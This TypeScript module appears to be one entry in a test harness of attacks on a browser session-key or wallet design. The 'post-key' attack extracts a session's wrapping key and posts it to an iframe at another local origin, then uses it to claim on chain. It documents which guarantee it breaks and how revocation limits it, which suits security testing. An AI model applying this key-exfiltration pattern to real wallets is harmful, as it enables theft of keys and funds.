import type { Attack } from '../attack'
import { inFrame, otherOrigin } from '../tools/frame'
import { boundOf, claim } from '../tools/key'
import { recordOf, wrappingKeyOf } from '../tools/storage'

// The frame is this page at another origin. What it does with what it gets is in `thief.ts`.
export const attack: Attack = {
  id: 'post-key',
  title: 'Post the wrapping key to another origin',
  wants: 'the use of the key where this page has no say any more',
  promise: 'P4',
  limit: { name: 'N5', advice: 'It ends with the expiry of the session, or when the owner revokes it on chain.' },
  async run(victim) {
    const origin = otherOrigin()
    if (origin === null) throw new Error('This page knows no other origin here: open it on 127.0.0.1 or localhost.')
    const record = recordOf(victim.session)
    const loot = { key: await wrappingKeyOf(record), text: record.text, bound: boundOf(record.text, 'key') }
    const { length, publicKey } = (await inFrame('thief', origin, loot)) as { length: number; publicKey: string | null }
    const { got, facts } = await claim(victim.session, victim.config.chain, length, publicKey)
    return { got, facts: [`${origin} decrypted the record.`, ...facts] }
  },
}
